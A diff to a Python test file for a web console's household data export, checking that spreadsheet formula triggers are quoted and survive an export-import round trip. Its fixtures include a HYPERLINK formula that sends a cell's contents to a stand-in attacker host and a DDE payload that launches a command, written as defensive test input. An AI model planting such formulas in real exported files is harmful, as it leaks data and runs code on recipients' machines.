@@ -20,7 +20,7 @@ from openpyxl import load_workbook
 from db.models import Household
 from gateway.services.safe_cells import TRIGGERS, neutralise, unquote
 from tests import factories
-from tests.console.conftest import post
+from tests.console.test_import import _previewed
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
 TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -71,15 +71,14 @@ def test_households_export_csv_and_xlsx_quote_formulas(admin, hostile):
     assert 3 in values  # people: a number the export wrote, still a number
 
 
-def test_an_exported_file_with_quoted_names_imports_back_unchanged(admin, world):
+def test_an_exported_file_with_quoted_names_imports_back_unchanged(admin, world, work):
     team = factories.team(world.ab, "=Team")
     row = factories.household(team, "AB010", ("+84912000010",), village="@home")
     Household.update(head_name="=2+5").where(Household.id == row.id).execute()
     exported = admin.get("/console/c/AB/households/export.csv").data
-    assert b"'=2+5" in exported
-    page = post(admin, "/console/c/AB/households/import", {"file": (io.BytesIO(exported), "h.csv")})
-    body = page.get_data(as_text=True)
-    assert "giữ nguyên 3" in body, re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body))
+    assert b"'=2+5" in exported and b"'@home" in exported
+    page, _address = _previewed(admin, work, exported)
+    assert "giữ nguyên 3" in page, re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))
     assert Household.get(Household.code == "AB010").head_name == "=2+5"
 
 
